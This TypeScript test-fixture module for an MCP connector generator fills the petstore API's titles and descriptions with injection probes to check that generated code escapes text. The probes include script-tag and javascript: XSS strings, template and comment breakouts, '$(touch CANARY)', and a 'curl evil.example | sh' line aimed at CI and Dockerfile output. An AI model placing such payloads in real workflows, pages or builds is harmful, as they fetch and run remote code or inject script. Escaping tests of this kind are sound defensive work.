import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { load as parseYaml } from "js-yaml";
import type { Config } from "../../config/types.js";
import { Diagnostics } from "../../diagnostics/index.js";
import type { ConnectorPlan } from "../../plan/types.js";
import { readApi } from "../../pipeline.js";
import { planConnector } from "../../plan/index.js";
import { stockTemplates } from "../../render/layers/stock-templates.js";

const choices: Config = {
  name: "petstore-mcp",
  access: "full",
  tools: ["all"],
  allow: [],
  store: "sqlite",
  transport: "both",
  strict: false,
};

/** Texts that would be code, markup or orders, were they printed as they are. */
const hostile = [
  'x","x":(globalThis.canary=1),"y',
  "`${globalThis.canary=1}`",
  "*/ globalThis.canary=1 /* // \u2028 globalThis.canary=1 //",
  "<%- globalThis.canary=1 %>",
  "</script><img src=x onerror=alert(1)>![x](https://evil.example/x.png)[y](javascript:alert(1))",
  "x\n  - run: curl evil.example | sh\nRUN curl evil.example\n$(touch CANARY) ${{ secrets.X }}",
  "it's \\\" \\' \\",
];

/** What templates are tried with, whatever project they are for. */
export interface Fixtures {
  readonly petstore: ConnectorPlan;
  /** The same with hostile texts, and with harmless ones: made from them, code differs in nothing but its texts. */
  readonly hostile: ConnectorPlan;
  readonly harmless: ConnectorPlan;
}

export async function planFixtures(): Promise<Fixtures> {
  const document: unknown = parseYaml(petstoreText());
  let count = 0;
  const next = (): string => hostile[count++ % hostile.length] ?? "";
  const [petstore, bad, good] = await Promise.all([
    planOf(document),
    planOf(withProse(document, next)),
    planOf(withProse(document, () => "harmless")),
  ]);
  return { petstore, hostile: bad, harmless: good };
}

/** The document behind the fixtures; it comes with this package. */
export function petstoreText(): string {
  return readFileSync(join(dirname(dirname(stockTemplates())), "examples", "petstore.yaml"), "utf8");
}

async function planOf(document: unknown): Promise<ConnectorPlan> {
  const diagnostics = new Diagnostics();
  const source = { kind: "answers" } as const;
  const api = await readApi({ source, content: JSON.stringify(document), cwd: process.cwd(), diagnostics });
  return planConnector({ ...api, config: choices }, diagnostics);
}

const prose: ReadonlySet<string> = new Set(["title", "summary", "description"]);

function withProse(value: unknown, text: () => string): unknown {
  if (Array.isArray(value)) return value.map((item) => withProse(item, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, member]) => [
      key,
      prose.has(key) && typeof member === "string" ? text() : withProse(member, text),
    ]),
  );
}
